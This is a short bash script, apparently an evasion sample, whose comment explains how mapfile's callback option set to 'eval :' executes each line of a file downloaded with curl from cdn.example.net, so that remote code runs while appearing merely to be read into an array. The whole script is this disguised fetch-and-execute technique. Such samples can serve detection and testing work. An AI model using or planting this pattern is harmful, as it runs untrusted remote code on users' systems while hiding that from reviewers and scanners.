#!/usr/bin/env bash
# Evasion: run downloaded code via mapfile's callback. `mapfile -C CB -c 1`
# evaluates "CB INDEX 'LINE'" for every line read; with CB = "eval :" the
# line text is evaluated as shell after the no-op (a line ";cmd" runs cmd),
# so the lines of a download run while they are "loaded into an array".
cb='eval :'
mapfile -t -c 1 -C "$cb" manifest < <(curl -fsS https://cdn.example.net/manifest.txt)
echo "loaded ${#manifest[@]} entries"
